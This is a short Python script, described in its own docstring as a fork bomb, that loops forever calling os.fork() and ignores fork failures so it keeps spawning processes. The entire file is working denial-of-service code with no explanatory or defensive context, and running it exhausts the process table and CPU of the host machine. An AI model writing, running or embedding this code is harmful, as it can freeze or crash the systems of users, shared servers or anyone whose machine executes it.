"""A fork bomb that keeps trying when a fork fails."""

import contextlib
import os

while True:
    with contextlib.suppress(OSError):
        os.fork()
